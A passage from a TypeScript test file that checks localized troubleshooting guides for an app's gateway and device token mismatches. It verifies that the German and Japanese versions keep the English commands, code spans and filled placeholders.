          // Same steps and notes, in the same order, with the very same commands.
          expect(commandsOf(guide), where).toEqual(commandsOf(englishGuide));
          const texts = textsOf(guide);
          const englishTexts = textsOf(englishGuide);
          expect(texts.length, where).toBe(englishTexts.length);
          texts.forEach((text, at) => {
            const plain = plainText(text);
            expect(plain.trim(), where).not.toBe('');
            // Every placeholder filled: none left over, in the words or anywhere else.
            expect(plain, where).not.toMatch(/\{[A-Za-z0-9_]+\}/);
            // The commands, keys and paths it names are the English sentence's, as code spans.
            expect(codesOf(text), `${where}: ${plain}`).toEqual(codesOf(englishTexts[at]!));
          });
          expect(plainText(guide.cause), where).not.toBe(plainText(englishGuide.cause));
          compared++;
        });
      }
    }
    expect(compared).toBeGreaterThan(CONTEXTS.length * ALL_KINDS.length);
  });

  it('shows a German step with its command untouched', async () => {
    const de = await translatorFor('de');
    const [guide] = buildWith([{ kind: 'gateway-token-mismatch' }], { release: R96 }, de);
    expect(guide!.title).toBe('Gateway-Token stimmt nicht überein');
    expect(plainText(guide!.steps[0]!.text)).toBe('Geben Sie das aktuelle Token des Gateways auf dem Gateway-Host aus:');
    expect(guide!.steps[0]!.command).toBe('openclaw gateway auth-token --show');
    const [older] = buildWith([{ kind: 'gateway-token-mismatch' }], { release: R424, runMode: COMPOSE }, de);
    const file = older!.steps[0]!;
    expect(file.command).toBe('docker compose exec openclaw-gateway openclaw config file');
    expect(file.text).toContainEqual({ code: 'gateway.auth.token' });
    expect(plainText(file.text)).toMatch(/^Suchen Sie die Konfigurationsdatei des Gateways im Container des Gateways und lesen Sie darin gateway\.auth\.token/);
  });

  it('quotes the page’s words and names the button in Japanese', async () => {
    const ja = await translatorFor('ja');
    const [guide] = buildWith([{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true }], {}, ja);
    expect(plainText(guide!.cause)).toContain('「gateway token mismatch」');
    expect(guide!.steps.map((s) => plainText(s.text)).join('\n')).toContain('「古いデバイストークンを削除」');
  });
});
